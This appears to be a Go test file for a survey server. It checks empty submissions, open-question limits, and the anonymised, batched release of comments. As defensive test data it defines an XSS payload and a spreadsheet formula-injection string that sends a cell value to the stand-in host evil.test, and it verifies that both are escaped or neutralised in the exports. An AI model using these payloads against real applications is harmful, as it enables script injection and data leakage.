package server

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"html"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/cxmhq/cxm"
	"github.com/cxmhq/cxm/internal/testdb"
)

// temkinSample are three statements of each of temkin-four's competencies.
var temkinSample = []string{"pl-1", "pl-2", "pl-3", "cbv-1", "cbv-2", "cbv-3", "ee-1", "ee-2", "ee-3", "cc-1", "cc-2", "cc-3"}

func fullAnswers(i int) map[string]int {
	out := map[string]int{}
	for j, it := range temkinSample {
		out[it] = 1 + (i*7+j*3)%5
	}
	return out
}

// survey posts one part of the survey as a respondent's browser does.
func (e *env) survey(tok string, v url.Values) (int, string, string) {
	e.t.Helper()
	c := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	resp, err := c.PostForm(e.ts.URL+"/r/"+tok, v)
	if err != nil {
		e.t.Fatal(err)
	}
	defer resp.Body.Close()
	var b bytes.Buffer
	b.ReadFrom(resp.Body)
	return resp.StatusCode, resp.Header.Get("Location"), b.String()
}

// TestEmptySubmissionRefused (issue 8, point 3): a submission that answers
// no statement is refused, by the API (400, field "answers") and by the
// survey (the last part again, saying what to do); nothing is stored and
// the invitation stays usable.
func TestEmptySubmissionRefused(t *testing.T) {
	for _, engine := range testdb.Engines {
		t.Run(engine, func(t *testing.T) {
			e := newEnv(t, engine)
			id := e.newAssessment(map[string]any{"name": "Empty", "framework": "temkin-four",
				"attributes": []any{map[string]any{"name": "department", "values": []string{"Sales", "Ops"}}}})
			toks := e.invite(id, 2)
			for _, body := range []map[string]any{
				{},
				{"attributes": map[string]string{"department": "Sales"}},
				{"attributes": map[string]string{"department": "Sales"}, "answers": map[string]any{"pl-1": nil, "pl-2": nil}},
				{"answers": map[string]any{}, "comment": "only a comment"},
			} {
				st, out := e.call("", "POST", "/api/v1/responses/"+toks[0], body)
				if st != http.StatusBadRequest || out["field"] != "answers" || !strings.Contains(fmt.Sprint(out["error"]), "answer no statement") {
					t.Fatalf("%v: %d %v", body, st, out)
				}
			}
			if n, _ := e.db.CountResponses(context.Background(), id); n != 0 {
				t.Fatalf("%d responses stored from empty submissions", n)
			}
			st, out := e.call("", "POST", "/api/v1/responses/"+toks[0], map[string]any{"answers": map[string]int{"ee-2": 4}})
			if st != http.StatusCreated {
				t.Fatalf("one answer after the refusals: %d %v", st, out)
			}

			// The survey: "about you", then the four competencies left
			// blank or "don't know", then Submit.
			tok := toks[1]
			if st, _, _ := e.survey(tok, url.Values{"part": {"0"}, "attr.department": {"Ops"}, "action": {"next"}}); st != http.StatusSeeOther {
				t.Fatalf("part 0: %d", st)
			}
			dk := url.Values{"part": {"1"}, "action": {"next"}}
			for _, it := range temkinSample[:3] {
				dk.Set("item."+it, "dk")
			}
			e.survey(tok, dk)
			st, _, page := e.survey(tok, url.Values{"part": {"4"}, "action": {"submit"}})
			if st != http.StatusBadRequest || !strings.Contains(page, "You have not answered any statement yet") ||
				!strings.Contains(page, "Part 5 of 5") || !strings.Contains(page, `value="submit"`) {
				t.Fatalf("empty survey submitted: %d\n%s", st, page)
			}
			if n, _ := e.db.CountResponses(context.Background(), id); n != 1 {
				t.Fatalf("%d responses after an empty survey, want 1", n)
			}
			if st, _ := e.get(http.DefaultClient, "/r/"+tok); st != http.StatusOK {
				t.Fatalf("the link after a refused submission: %d", st)
			}
			st, loc, _ := e.survey(tok, url.Values{"part": {"4"}, "item.cc-1": {"2"}, "action": {"submit"}})
			if st != http.StatusSeeOther || loc != "/thanks" {
				t.Fatalf("one answer: %d %q", st, loc)
			}
			if n, _ := e.db.CountResponses(context.Background(), id); n != 2 {
				t.Fatalf("%d responses, want 2", n)
			}
		})
	}
}

// TestOpenQuestionInput: the default question, none, the length limit, and
// changes only while open and without responses.
func TestOpenQuestionInput(t *testing.T) {
	e := newEnv(t, testdb.SQLite)
	question := func(id int64) any {
		_, out := e.call(cxm.RoleViewer, "GET", "/api/v1/assessments/"+itoa64(id), nil)
		return out["open_question"]
	}
	def := e.newAssessment(map[string]any{"name": "Default", "framework": "temkin-four"})
	none := e.newAssessment(map[string]any{"name": "None", "framework": "temkin-four", "open_question": "  "})
	own := e.newAssessment(map[string]any{"name": "Own", "framework": "temkin-four", "open_question": " What should we keep? "})
	if q := question(def); q != DefaultOpenQuestion {
		t.Errorf("default: %v", q)
	}
	if q := question(none); q != "" {
		t.Errorf("none: %v", q)
	}
	if q := question(own); q != "What should we keep?" {
		t.Errorf("own: %v", q)
	}
	st, out := e.call(cxm.RoleFacilitator, "POST", "/api/v1/assessments", map[string]any{"name": "Long", "framework": "temkin-four",
		"open_question": strings.Repeat("é", 301)})
	if st != http.StatusBadRequest || out["field"] != "open_question" || !strings.Contains(fmt.Sprint(out["error"]), "at most 300 characters, not 301") {
		t.Errorf("301 characters: %d %v", st, out)
	}
	path := "/api/v1/assessments/" + itoa64(none) + "/open-question"
	if st, out := e.call(cxm.RoleFacilitator, "PUT", path, map[string]any{"open_question": "Anything else?"}); st != http.StatusOK || out["open_question"] != "Anything else?" {
		t.Fatalf("change: %d %v", st, out)
	}
	if st, out := e.call(cxm.RoleFacilitator, "PUT", path, map[string]any{}); st != http.StatusBadRequest || out["field"] != "open_question" {
		t.Errorf("no field: %d %v", st, out)
	}
	tok := e.invite(none, 1)[0]
	if st, _ := e.call("", "POST", "/api/v1/responses/"+tok, map[string]any{"answers": fullAnswers(1)}); st != http.StatusCreated {
		t.Fatal(st)
	}
	if st, out := e.call(cxm.RoleFacilitator, "PUT", path, map[string]any{"open_question": "Other?"}); st != http.StatusConflict || out["field"] != "open_question" {
		t.Errorf("after a response: %d %v", st, out)
	}
	if q := question(none); q != "Anything else?" {
		t.Errorf("after a refused change: %v", q)
	}
	// The form on the dashboard.
	c, csrf := e.session(cxm.RoleFacilitator)
	resp := e.form(c, "/assessments/"+itoa64(own)+"/open-question", url.Values{"csrf": {csrf}, "open_question": {""}}, nil)
	if resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("form: %d", resp.StatusCode)
	}
	if q := question(own); q != "" {
		t.Errorf("emptied by the form: %v", q)
	}
}

// Hostile comments: markup and a spreadsheet formula.
const (
	hostileMarkup  = `<script>alert(1)</script><img src=x onerror=alert(2)>`
	hostileFormula = `=HYPERLINK("http://evil.test/?d="&A1,"Open")`
)

// TestComments (issue 8, point 6): comments are stored apart, refused
// when too long or unasked, invisible while open, and shown once released,
// in a stored order that is not the order they came in, never by group,
// escaped, in the dashboard, the API, the report and the exports; below
// k they are withheld everywhere.
func TestComments(t *testing.T) {
	for _, engine := range testdb.Engines {
		t.Run(engine, func(t *testing.T) {
			e := newEnv(t, engine)
			id := e.newAssessment(map[string]any{"name": "Comments", "framework": "temkin-four", "min_group": 5,
				"attributes": []any{map[string]any{"name": "department", "values": []string{"Sales", "Ops"}}}})
			apath, vpath := "/api/v1/assessments/"+itoa64(id), "/assessments/"+itoa64(id)
			toks := e.invite(id, 13)
			viewer, _ := e.session(cxm.RoleViewer)

			// Refused: too long (2,001 characters), nothing stored.
			st, out := e.call("", "POST", "/api/v1/responses/"+toks[0], map[string]any{"answers": fullAnswers(0), "comment": strings.Repeat("ü", 2001)})
			if st != http.StatusBadRequest || out["field"] != "comment" || !strings.Contains(fmt.Sprint(out["error"]), "at most 2000 characters, not 2001") {
				t.Fatalf("2,001 characters: %d %v", st, out)
			}
			var sent []string
			for i, tok := range toks[:12] {
				c := fmt.Sprintf("comment %02d: more training", i)
				switch i {
				case 3:
					c = hostileMarkup
				case 7:
					c = hostileFormula
				case 11:
					c = strings.Repeat("x", 2000) // the limit itself
				}
				sent = append(sent, c)
				body := map[string]any{"attributes": map[string]string{"department": []string{"Sales", "Ops"}[i%2]}, "answers": fullAnswers(i), "comment": c}
				if st, out := e.call("", "POST", "/api/v1/responses/"+tok, body); st != http.StatusCreated {
					t.Fatalf("submit %d: %d %v", i, st, out)
				}
				// While open: no comment anywhere.
				if st, out := e.call(cxm.RoleViewer, "GET", apath+"/comments", nil); st != http.StatusConflict || out["field"] != "status" {
					t.Fatalf("comments while open: %d %v", st, out)
				}
				_, page := e.get(viewer, vpath)
				_, report := e.get(viewer, vpath+"/report")
				for _, s := range sent {
					esc := html.EscapeString(s)
					if strings.Contains(page, s[:12]) || strings.Contains(page, esc[:12]) || strings.Contains(report, s[:12]) {
						t.Fatalf("a comment is shown while open: %q", s)
					}
				}
			}
			// By the survey, with nothing but the last part and a comment.
			tok := toks[12]
			last := url.Values{"part": {"4"}, "item.cc-1": {"4"}, "action": {"submit"}, "comment": {"  from the survey  "}}
			if st, loc, page := e.survey(tok, last); st != http.StatusSeeOther || loc != "/thanks" {
				t.Fatalf("survey: %d %q %s", st, loc, page)
			}
			sent = append(sent, "from the survey")

			if st, out := e.call(cxm.RoleFacilitator, "POST", apath+"/close", nil); st != http.StatusOK {
				t.Fatalf("close: %d %v", st, out)
			}
			st, raw := e.raw(cxm.RoleViewer, "GET", apath+"/comments", "", nil)
			got := commentsOf(t, st, raw)
			if *got.Question != DefaultOpenQuestion || got.Withheld != nil || len(got.Comments) != 13 {
				t.Fatalf("released comments: %s", raw)
			}
			if slices.Equal(got.Comments, sent) {
				t.Error("the comments are in the order they were submitted")
			}
			if !slices.Equal(slices.Sorted(slices.Values(got.Comments)), slices.Sorted(slices.Values(sent))) {
				t.Errorf("released %q, sent %q", got.Comments, sent)
			}
			_, raw2 := e.raw(cxm.RoleViewer, "GET", apath+"/comments", "", nil)
			if again := commentsOf(t, 200, raw2); !slices.Equal(again.Comments, got.Comments) {
				t.Error("the order changes between reads")
			}
			if bytes.Contains(raw, []byte("Sales")) || bytes.Contains(raw, []byte("department")) {
				t.Errorf("the comments name a group: %s", raw)
			}
			checkCommentViews(t, e, viewer, vpath, got.Comments)
		})
	}
}

type commentsAnswer struct {
	Question *string  `json:"question"`
	Comments []string `json:"comments"`
	Withheld *string  `json:"withheld"`
}

func commentsOf(t *testing.T, st int, raw []byte) commentsAnswer {
	t.Helper()
	var out commentsAnswer
	if err := json.Unmarshal(raw, &out); st != http.StatusOK || err != nil || out.Comments == nil {
		t.Fatalf("comments: %d %v %s", st, err, raw)
	}
	return out
}

// checkCommentViews: the dashboard and the report list the comments in
// the release's order, escaped; comments.csv and the Comments sheet hold
// them with the formula neutralized.
func checkCommentViews(t *testing.T, e *env, viewer *http.Client, vpath string, want []string) {
	t.Helper()
	_, page := e.get(viewer, vpath)
	_, report := e.get(viewer, vpath+"/report")
	for name, doc := range map[string]string{"dashboard": page, "report": report} {
		if strings.Contains(doc, "<script>alert") || strings.Contains(doc, "<img src=x") {
			t.Errorf("%s: a comment's markup is not escaped", name)
		}
		if !strings.Contains(doc, "&lt;script&gt;alert(1)&lt;/script&gt;") || !strings.Contains(doc, DefaultOpenQuestion) {
			t.Errorf("%s: the comments are not shown", name)
		}
		// In the stored order: each comment's first words appear in turn.
		at := 0
		for _, c := range want {
			key := html.EscapeString(c)
			if len(key) > 20 {
				key = key[:20]
			}
			i := strings.Index(doc[at:], key)
			if i < 0 {
				t.Errorf("%s: %q is not shown after the comment before it", name, key)
				break
			}
			at += i + len(key)
		}
	}
	st, raw := e.raw(cxm.RoleViewer, "GET", "/api/v1"+vpath+"/export/comments.csv", "", nil)
	// For Excel: a byte-order mark, and the withheld state as a column.
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(raw, []byte("\ufeff")))).ReadAll()
	if st != http.StatusOK || err != nil || len(rows) != len(want)+1 || !slices.Equal(rows[0], []string{"#", "comment", "withheld"}) {
		t.Fatalf("comments.csv: %d %v %q", st, err, raw)
	}
	for i, c := range want {
		cell := c
		if strings.HasPrefix(c, "=") {
			cell = "'" + c
		}
		if rows[i+1][0] != strconv.Itoa(i+1) || rows[i+1][1] != cell || rows[i+1][2] != "FALSE" {
			t.Errorf("comments.csv row %d: %q, want %q", i+2, rows[i+1], cell)
		}
	}
	_, raw = e.raw(cxm.RoleViewer, "GET", "/api/v1"+vpath+"/export.xlsx", "", nil)
	x, err := excelize.OpenReader(bytes.NewReader(raw))
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	sheet, err := x.GetRows("Comments")
	if err != nil || len(sheet) != len(want)+1 {
		t.Fatalf("Comments sheet: %v %q", err, sheet)
	}
	for i, c := range want {
		if sheet[i+1][1] != c {
			t.Errorf("Comments sheet row %d: %q, want %q", i+2, sheet[i+1][1], c)
		}
		if f, _ := x.GetCellFormula("Comments", "B"+strconv.Itoa(i+2)); f != "" {
			t.Errorf("Comments sheet row %d is a formula: %q", i+2, f)
		}
	}
}

// TestCommentsWithheldBelowK: 6 responses but 4 comments with k = 5: no
// comment anywhere, and each view says why; an assessment without an open
// question takes no comment.
func TestCommentsWithheldBelowK(t *testing.T) {
	for _, engine := range testdb.Engines {
		t.Run(engine, func(t *testing.T) {
			e := newEnv(t, engine)
			id := e.newAssessment(map[string]any{"name": "Few", "framework": "temkin-four", "min_group": 5, "open_question": "Why?"})
			apath, vpath := "/api/v1/assessments/"+itoa64(id), "/assessments/"+itoa64(id)
			for i, tok := range e.invite(id, 6) {
				body := map[string]any{"answers": fullAnswers(i)}
				if i < 4 {
					body["comment"] = fmt.Sprintf("secret words %d", i)
				}
				if st, out := e.call("", "POST", "/api/v1/responses/"+tok, body); st != http.StatusCreated {
					t.Fatalf("submit: %d %v", st, out)
				}
			}
			e.call(cxm.RoleFacilitator, "POST", apath+"/close", nil)
			st, raw := e.raw(cxm.RoleViewer, "GET", apath+"/comments", "", nil)
			got := commentsOf(t, st, raw)
			if *got.Question != "Why?" || got.Withheld == nil || *got.Withheld != "fewer than 5 comments: not shown" || len(got.Comments) != 0 {
				t.Fatalf("withheld: %s", raw)
			}
			viewer, _ := e.session(cxm.RoleViewer)
			_, page := e.get(viewer, vpath)
			_, report := e.get(viewer, vpath+"/report")
			_, csvRaw := e.raw(cxm.RoleViewer, "GET", apath+"/export/comments.csv", "", nil)
			for name, s := range map[string]string{"dashboard": page, "report": report, "comments.csv": string(csvRaw)} {
				if strings.Contains(s, "secret words") || !strings.Contains(s, "ewer than 5 comments: not shown") {
					t.Errorf("%s does not withhold the comments", name)
				}
			}

			none := e.newAssessment(map[string]any{"name": "None", "framework": "temkin-four", "open_question": ""})
			tok := e.invite(none, 1)[0]
			st, out := e.call("", "POST", "/api/v1/responses/"+tok, map[string]any{"answers": fullAnswers(1), "comment": "hello"})
			if st != http.StatusBadRequest || out["field"] != "comment" {
				t.Fatalf("a comment without a question: %d %v", st, out)
			}
			if st, _ := e.call("", "POST", "/api/v1/responses/"+tok, map[string]any{"answers": fullAnswers(1)}); st != http.StatusCreated {
				t.Fatalf("the token after the refusal: %d", st)
			}
		})
	}
}

// TestCommentsWaitForABatch: comments are written k at a time, shuffled,
// never one by one after their response; closing takes the waiting ones
// into the release, and a clean stop writes them.
func TestCommentsWaitForABatch(t *testing.T) {
	for _, engine := range testdb.Engines {
		t.Run(engine, func(t *testing.T) {
			e := newEnv(t, engine)
			ctx := context.Background()
			id := e.newAssessment(map[string]any{"name": "Batches", "framework": "temkin-four", "min_group": 5})
			stored := func() int {
				n, err := e.db.CountComments(ctx, id)
				must(t, err)
				return n
			}
			toks := e.invite(id, 11)
			want := []int{0, 0, 0, 0, 5, 5, 5, 5, 5, 10, 10}
			for i, tok := range toks {
				body := map[string]any{"answers": fullAnswers(i), "comment": fmt.Sprintf("batch comment %d", i)}
				if st, out := e.call("", "POST", "/api/v1/responses/"+tok, body); st != http.StatusCreated {
					t.Fatalf("submit %d: %d %v", i, st, out)
				}
				if n := stored(); n != want[i] {
					t.Fatalf("after %d comments, %d stored; want %d", i+1, n, want[i])
				}
			}
			e.call(cxm.RoleFacilitator, "POST", "/api/v1/assessments/"+itoa64(id)+"/close", nil)
			st, raw := e.raw(cxm.RoleViewer, "GET", "/api/v1/assessments/"+itoa64(id)+"/comments", "", nil)
			if got := commentsOf(t, st, raw); len(got.Comments) != 11 || stored() != 0 {
				t.Fatalf("the release has %d comments (want 11), %d rows left", len(got.Comments), stored())
			}

			// A clean stop writes the waiting comments; the release takes them.
			other := e.newAssessment(map[string]any{"name": "Stop", "framework": "temkin-four", "min_group": 5})
			for i, tok := range e.invite(other, 6) {
				body := map[string]any{"answers": fullAnswers(i)}
				if i < 2 {
					body["comment"] = fmt.Sprintf("before the stop %d", i)
				}
				e.call("", "POST", "/api/v1/responses/"+tok, body)
			}
			if n, _ := e.db.CountComments(ctx, other); n != 0 {
				t.Fatalf("%d comments written before a batch", n)
			}
			must(t, e.srv.FlushComments(ctx))
			if n, _ := e.db.CountComments(ctx, other); n != 2 {
				t.Fatalf("%d comments written at the stop, want 2", n)
			}
			e.call(cxm.RoleFacilitator, "POST", "/api/v1/assessments/"+itoa64(other)+"/close", nil)
			st, raw = e.raw(cxm.RoleViewer, "GET", "/api/v1/assessments/"+itoa64(other)+"/comments", "", nil)
			if got := commentsOf(t, st, raw); got.Withheld == nil || len(got.Comments) != 0 {
				t.Fatalf("2 comments with k = 5: %s", raw)
			}
		})
	}
}
